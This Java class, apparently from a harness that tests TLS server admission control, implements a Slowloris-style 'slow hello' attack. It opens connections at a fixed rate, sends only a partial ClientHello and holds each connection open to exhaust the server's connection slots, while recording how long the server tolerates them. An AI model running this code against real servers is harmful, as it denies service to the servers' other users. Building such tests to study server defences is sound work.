package io.tlsadmit.attack.client;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.net.StandardSocketOptions;
import java.util.List;
import java.util.concurrent.atomic.AtomicLong;
import org.HdrHistogram.Histogram;

/**
 * The slow-hello (Slowloris-style) attacker: connections at a fixed rate, each sends the first bytes
 * of a real ClientHello and then nothing, and is kept open until the server gives up on it. Costs the
 * server no crypto at all, only a connection slot, a file descriptor and memory each, for as long as
 * it is willing to wait: the attack is on {@code maxConnections}, and through it on everyone else.
 */
public final class SlowHelloHold extends OpenLoopConnections {
    private final byte[] prefix;
    private final AtomicLong open = new AtomicLong();
    private final AtomicLong maxOpen = new AtomicLong();
    private final AtomicLong serverClosed = new AtomicLong();
    private final AtomicLong failed = new AtomicLong();
    /** How long the server kept a slow connection before closing it, ms. */
    private final Histogram heldMillis = new Histogram(3_600_000L, 3);

    public record Counts(long opened, long openFailures, long openNow, long maxOpen, long serverClosed,
                         long failed, double heldMedianMillis, double heldMaxMillis) {
    }

    public SlowHelloHold(InetSocketAddress server, List<InetAddress> sources, double perSecond, double maxSeconds,
                         byte[] prefix) throws IOException {
        super("slow-hello", server, sources, perSecond, maxSeconds);
        this.prefix = prefix.clone();
        begin();
    }

    @Override
    void connected(Connection connection) throws IOException {
        connection.channel.write(ByteBuffer.wrap(prefix));
        maxOpen.accumulateAndGet(open.incrementAndGet(), Math::max);
        interestInReading(connection);
    }

    @Override
    void received(Connection connection, ByteBuffer bytes) {
        // an alert before closing is possible; the close that follows is what we wait for
    }

    @Override
    void expire(long nowNanos) {
        // never: holding the connection is the attack
    }

    @Override
    void ended(Connection connection, EndReason reason, long nowNanos) {
        if (reason == EndReason.CONNECT_FAILED) {
            failed.incrementAndGet();
            return;
        }
        open.decrementAndGet();
        if (reason == EndReason.SERVER_CLOSED || reason == EndReason.RESET) {
            serverClosed.incrementAndGet();
            synchronized (heldMillis) {
                heldMillis.recordValue(Math.max(0, Math.min((nowNanos - connection.openedNanos) / 1_000_000L,
                        heldMillis.getHighestTrackableValue())));
            }
        }
    }

    @Override
    void configure(SocketChannel channel) throws IOException {
        super.configure(channel);
        // when the phase ends we close thousands at once: a reset leaves no TIME_WAIT behind
        channel.setOption(StandardSocketOptions.SO_LINGER, 0);
    }

    public Counts counts() {
        synchronized (heldMillis) {
            boolean any = heldMillis.getTotalCount() > 0;
            return new Counts(opened(), openFailures(), open.get(), maxOpen.get(), serverClosed.get(), failed.get(),
                    any ? heldMillis.getValueAtPercentile(50) : Double.NaN,
                    any ? heldMillis.getMaxValue() : Double.NaN);
        }
    }
}
